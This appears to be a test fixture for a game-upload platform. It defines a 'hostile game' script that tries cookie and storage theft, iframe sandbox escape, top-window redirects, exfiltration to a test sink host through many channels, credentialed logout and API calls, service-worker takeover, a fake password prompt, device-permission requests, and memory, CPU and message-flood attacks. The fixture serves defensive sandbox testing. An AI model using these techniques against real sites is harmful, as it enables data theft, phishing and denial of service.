import { type GameFiles, type OpenedBuild, plainManifest } from './uploaded-build.ts';

/**
 * What a hostile game tries. Each attempt answers with what it got hold of, an empty list when it got nothing; what it
 * sends away is counted where it would arrive. In a frame it is told to by its page, as a page of its own by its hash.
 */
const SCRIPT = `
const attempt = async (run) => { try { return [await run()].flat().filter(Boolean); } catch { return []; } };
const within = (ms, promise) => Promise.race([promise, new Promise((_, reject) => setTimeout(reject, ms))]);
const arrives = (element, attributes) => within(1500, new Promise((resolve, reject) => {
  Object.assign(element, attributes, { onload: () => resolve('loaded'), onerror: reject });
  document.body.append(element);
}));
const make = (name) => document.createElement(name);
const all = (...runs) => Promise.all(runs.map(attempt)).then((found) => found.flat());

const attempts = {
  cookies: ({ canary }) => all(
    () => document.cookie.includes(canary) && document.cookie,
    () => cookieStore.getAll().then((kept) => JSON.stringify(kept).includes(canary) && 'cookieStore'),
  ),
  storage: ({ canary }) => all(
    () => JSON.stringify({ ...localStorage }).includes(canary) && 'localStorage',
    () => JSON.stringify({ ...sessionStorage }).includes(canary) && 'sessionStorage',
    async () => JSON.stringify(await indexedDB.databases()).includes(canary) && 'indexedDB',
    async () => (await caches.keys()).join().includes(canary) && 'caches',
  ),
  parentPage: ({ canary }) => all(
    () => parent !== window && parent.document.title,
    () => top !== window && top.document.body && 'top.document',
    () => parent !== window && parent.localStorage.getItem('canary'),
    () => frameElement && 'frameElement',
    () => { frameElement.removeAttribute('sandbox'); return 'sandbox removed'; },
    () => { if (parent === window) return ''; parent.canaryStolen = canary; return 'written into the parent'; },
    () => { if (parent === window) return ''; const found = parent.eval('1'); return found && 'eval in the parent'; },
  ),
  topNavigation: ({ sink }) => all(
    () => { if (top !== window) top.location = sink + '/top'; },
    () => { if (top !== window) top.location.href = sink + '/top-href'; },
    () => { if (top !== window) top.location.replace(sink + '/top-replace'); },
    () => { if (top !== window) window.open(sink + '/top-open', '_top'); },
    () => { if (top === window) return; const a = make('a'); a.href = sink + '/top-link'; a.target = '_top'; document.body.append(a); a.click(); },
    () => { if (top === window) return; const a = make('a'); a.href = sink + '/parent-link'; a.target = '_parent'; document.body.append(a); a.click(); },
  ),
  popUps: ({ sink }) => all(
    () => window.open(sink + '/pop-up') && 'window.open',
    () => window.open('about:blank') && 'window.open blank',
    () => { const a = make('a'); a.href = sink + '/blank-link'; a.target = '_blank'; document.body.append(a); a.click(); },
    () => { alert('x'); },
    () => window.prompt('Your password?', 'typed') && 'prompt',
  ),
  forms: ({ sink, app }) => all(...[sink + '/form', app + '/api/auth/logout'].flatMap((action) =>
    ['GET', 'POST'].map((method) => () => {
      const form = make('form'); Object.assign(form, { action, method, target: '_blank' });
      const field = make('input'); field.name = 'stolen'; field.value = 'x'; form.append(field);
      document.body.append(form); form.submit(); form.requestSubmit();
    }))),
  elsewhere: ({ sink }) => all(...[sink, sink.replace('127.0.0.1', 'localhost')].flatMap((to) => [
    () => within(1500, fetch(to + '/fetch')).then(() => 'fetch'),
    () => within(1500, fetch(to + '/no-cors', { mode: 'no-cors' })).then(() => 'fetch no-cors'),
    () => within(1500, fetch(to + '/keepalive', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })).then(() => 'keepalive'),
    () => { navigator.sendBeacon(to + '/beacon', 'x'); },
    () => { const ask = new XMLHttpRequest(); ask.open('GET', to + '/xhr', false); ask.send(); return 'xhr'; },
    () => arrives(make('img'), { src: to + '/img' }),
    () => arrives(make('script'), { src: to + '/script.js' }),
    () => arrives(make('link'), { rel: 'stylesheet', href: to + '/style.css' }),
    () => { make('link'); const link = make('link'); link.rel = 'prefetch'; link.href = to + '/prefetch'; document.head.append(link); },
    () => { const link = make('link'); link.rel = 'preconnect'; link.href = to; document.head.append(link); },
    () => { const link = make('link'); link.rel = 'manifest'; link.href = to + '/manifest'; document.head.append(link); },
    () => { const frame = make('iframe'); frame.src = to + '/iframe'; document.body.append(frame); },
    () => { const object = make('object'); object.data = to + '/object'; document.body.append(object); },
    () => { const embed = make('embed'); embed.src = to + '/embed'; document.body.append(embed); },
    () => { const video = make('video'); video.src = to + '/video'; document.body.append(video); video.load(); },
    () => { document.body.style.background = 'url(' + to + '/background)'; },
    () => new FontFace('x', 'url(' + to + '/font)').load().then(() => 'font'),
    () => within(1500, new Promise((resolve, reject) => { const line = new WebSocket(to.replace('http', 'ws') + '/socket'); line.onopen = () => resolve('WebSocket'); line.onerror = reject; })),
    () => within(1500, new Promise((resolve, reject) => { const line = new EventSource(to + '/events'); line.onopen = () => resolve('EventSource'); line.onerror = reject; })),
    () => within(1500, new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob(
      ['fetch("' + to + '/worker", { mode: "no-cors" }).then(() => postMessage("worker fetch"), () => postMessage(""))'], { type: 'text/javascript' })));
      worker.onmessage = ({ data }) => resolve(data); })),
    () => import(to + '/module.js').then(() => 'import'),
  ])),
  api: ({ app }) => all(...['GET', 'POST', 'DELETE'].flatMap((method) => ['/api/auth/session', '/api/auth/logout', '/api/users', '/api/health'].map((path) =>
    () => within(1500, fetch(app + path, { method, credentials: 'include', headers: { 'x-tryout-client': 'game' } })).then(() => method + path))),
    () => within(1500, fetch(app + '/api/auth/logout', { method: 'POST', mode: 'no-cors', credentials: 'include' })).then(() => 'no-cors'),
    () => arrives(make('img'), { src: app + '/favicon.svg' }),
    () => arrives(make('script'), { src: app + '/api/health' }),
    () => { const frame = make('iframe'); frame.src = app + '/user'; document.body.append(frame); },
    () => { navigator.sendBeacon(app + '/api/auth/logout'); },
  ),
  serviceWorker: async () => {
    const found = await all(
      () => navigator.serviceWorker.register('worker.js').then(() => 'registered'),
      () => navigator.serviceWorker.register(URL.createObjectURL(new Blob([''], { type: 'text/javascript' }))).then(() => 'registered a blob'),
    );
    return [...found, ...await attempt(() => navigator.serviceWorker.getRegistrations().then((kept) => kept.length > 0 && 'found one'))];
  },
  devices: () => all(
    () => within(1500, navigator.mediaDevices.getUserMedia({ audio: true, video: true })).then(() => 'camera'),
    () => within(1500, new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('place'), reject))),
    () => within(1500, navigator.clipboard.readText()).then(() => 'clipboard'),
    () => within(1500, Notification.requestPermission()).then((given) => given === 'granted' && 'notifications'),
    () => within(1500, navigator.usb.requestDevice({ filters: [] })).then(() => 'usb'),
  ),
  leave: ({ sink }) => { setTimeout(() => { location.href = sink + '/leave?stolen=x'; }); return []; },
  memory: () => {
    const held = [];
    try { for (let i = 0; i < 32; i += 1) { const part = new Uint8Array(64 * 2 ** 20); for (let at = 0; at < part.length; at += 4096) part[at] = 1; held.push(part); } }
    catch (error) { return [error.name]; }
    window.held = held;
    return [held.length * 64 + ' MB'];
  },
  loop: () => { setTimeout(() => { for (;;); }, 50); return []; },
  flood: ({ per_second, seconds }) => new Promise((resolve) => {
    const began = performance.now(); let sent = 0;
    const timer = setInterval(() => {
      const due = Math.min(seconds, (performance.now() - began) / 1000) * per_second;
      for (; sent < due; sent += 1) parent.postMessage({ t: sent % 2 ? 'hello' : 'data_point', sdk: '1.0.0', seq: sent, key: 'score', value: 100 }, '*');
      if (sent >= per_second * seconds) { clearInterval(timer); resolve([]); }
    }, 10);
  }),
};
addEventListener('message', async ({ data, ports }) => {
  if (ports[0]) return ports[0].postMessage({ t: 'ready' });
  if (data?.asked in attempts) parent.postMessage({ asked: data.asked, answer: await attempts[data.asked](data) }, '*');
});
if (parent !== window) parent.postMessage({ t: 'hello', sdk: '1.0.0' }, '*');
else {
  window.attempted = {};
  const settings = JSON.parse(decodeURIComponent(location.hash.slice(1) || '{}'));
  (async () => {
    for (const name of ['cookies', 'storage', 'parentPage', 'popUps', 'forms', 'elsewhere', 'api', 'serviceWorker', 'devices'])
      window.attempted[name] = await attempts[name](settings);
    window.attempted.done = true;
  })();
}
`;

/** A hostile game; in its first moments it behaves. */
export function hostileGame(slug: string, profile: OpenedBuild['profile']): GameFiles {
  return {
    'build.json': plainManifest(slug, profile),
    'index.html':
      '<!doctype html><html lang="en"><meta charset="utf-8"><title>Hostile</title><body><script src="game.js"></script></body></html>',
    'game.js': SCRIPT,
    'worker.js': 'onfetch = (event) => event.respondWith(new Response("taken over"));',
  };
}

/** What it tries one after another while its page stays; the rest ends it. */
export const ATTEMPTS = [
  'cookies',
  'storage',
  'parentPage',
  'topNavigation',
  'popUps',
  'forms',
  'elsewhere',
  'api',
  'serviceWorker',
  'devices',
] as const;
